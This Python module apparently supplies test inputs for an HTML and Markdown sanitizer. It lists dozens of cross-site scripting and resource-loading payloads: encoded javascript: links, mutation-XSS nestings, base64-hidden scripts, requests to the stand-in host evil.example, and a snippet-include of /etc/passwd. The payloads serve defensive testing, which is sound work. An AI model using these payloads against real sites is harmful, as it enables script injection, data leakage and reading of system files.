"""What a hostile page may try: each calls `pwned()` if it runs, or asks `evil.example` for something if it is shown."""

from __future__ import annotations

import base64

_CALLS = "pwned()"
_HIDDEN = base64.b64encode(b"<script>top.pwned()</script>").decode()

_HANDLERS = [
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onpointerenter", "ontoggle", "onanimationstart", "onbegin",
]  # fmt: skip
_TAGS = [
    "img", "svg", "video", "audio", "body", "iframe", "input", "details", "marquee", "object", "embed", "link", "math",
    "select", "textarea",
]  # fmt: skip

ELEMENTS = [
    f"<script>{_CALLS}</script>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT><scr<script>ipt>{_CALLS}</scr</script>ipt>",
    f"<svg><script>{_CALLS}</script></svg>",
    f"<svg><animate onbegin={_CALLS} attributeName=x dur=1s></svg>",
    "<svg><use xlink:href='data:image/svg+xml;base64,PHN2Zz4=#x'></use></svg>",
    "<svg><a xlink:href='javascript:pwned()'><text y=20>cliquer</text></a></svg>",
    "<math><maction actiontype=statusline xlink:href='javascript:pwned()'>x</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()></style></mglyph></table></mtext></math>",
    f"<iframe srcdoc='<script>parent.{_CALLS}</script>'></iframe>",
    f"<iframe src='data:text/html;base64,{_HIDDEN}'></iframe>",
    f"<object data='data:text/html;base64,{_HIDDEN}'></object>",
    f"<embed src='data:image/svg+xml;base64,{_HIDDEN}'>",
    "<img src='https://evil.example/pixel.png'>",
    "<img src='//evil.example/pixel.png' srcset='https://evil.example/2x.png 2x'>",
    "<picture><source srcset='https://evil.example/p.webp'><img src=x></picture>",
    "<video poster='https://evil.example/p.png' src='https://evil.example/v.mp4'></video>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'; *{background:url(https://evil.example/b.png)}</style>",
    "<p style='background:url(https://evil.example/s.png);behavior:url(x.htc)'>x</p>",
    "<base href='https://evil.example/'><a href=x>lien</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action='https://evil.example/'><button>envoyer</button></form>",
    "<input autofocus onfocus=pwned()>",
    "<details open ontoggle=pwned()>x</details>",
    "<a href='javascript:pwned()'>lien</a>",
    "<a href='java&#10;script:pwned()'>lien</a>",
    "<a href='&#x6A;avascript&colon;pwned()'>lien</a>",
    "<a href=' \x01javascript:pwned()'>lien</a>",
    "<a href='vbscript:pwned()'>lien</a>",
    f"<a href='data:text/html;base64,{_HIDDEN}'>lien</a>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "<template><img src=x onerror=pwned()></template>",
    "<!--><img src=x onerror=pwned()>-->",
    "<![CDATA[<img src=x onerror=pwned()>]]>",
    "<xmp><img src=x onerror=pwned()></xmp><plaintext>",
    "<listing>&lt;img src=x onerror=pwned()&gt;</listing>",
    "<svg></p><style><a id='</style><img src=x onerror=pwned()>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned()>",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&amp;lt;img src=x onerror=pwned()&amp;gt;",
    "<img/src=x/onerror=pwned()>",
    "<img src=x onerror\x0b=pwned()>",
    '"><img src=x onerror=pwned()>',
    "'><svg/onload=pwned()>",
    "</title><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "</script><script>pwned()</script>",
    "--><script>pwned()</script>",
    "]]><script>pwned()</script>",
    "<script type=module>import 'https://evil.example/m.js'</script>",
    "<portal src='javascript:pwned()'></portal><frameset onload=pwned()>",
    "<button popovertarget=x onbeforetoggle=pwned()>x</button><div popover id=x onbeforetoggle=pwned()>",
]
"""In HTML."""

MARKDOWN = [
    "[lien](javascript:pwned())",
    "[lien](JaVaScRiPt:pwned() 'x')",
    "[lien](data:text/html,<script>pwned()</script>)",
    "![x](https://evil.example/m.png)",
    "[![x](https://evil.example/m.png)](javascript:pwned())",
    "<javascript:pwned()>",
    "[lien][1]\n\n[1]: javascript:pwned()",
    "{{ 7*7 }}{% raw %}<script>pwned()</script>{% endraw %}",
    "# titre {: onclick=pwned() }",
    "!!! note <img src=x onerror=pwned()>",
    "```{.html onclick=pwned()}\n<script>pwned()</script>\n```",
    "[^1]\n\n[^1]: <img src=x onerror=pwned()>",
    '--8<-- "/etc/passwd"',
    "| a |\n|---|\n| <img src=x onerror=pwned()> |",
    "    <script>pwned()</script>",
    "<div markdown=1>[x](javascript:pwned())</div>",
    "*[HTML]: <img src=x onerror=pwned()>",
    "---\ntitle: <script>pwned()</script>\n---",
    "\u202e<script>pwned()</script>\u2066",
]
"""In Markdown, or to its extensions."""

PAYLOADS = [
    *ELEMENTS,
    *MARKDOWN,
    *(f"<{tag} src=x {_HANDLERS[place % len(_HANDLERS)]}={_CALLS}>" for place, tag in enumerate(_TAGS)),
    *(f'x" {handler}="{_CALLS}' for handler in _HANDLERS),
]
"""All of them."""
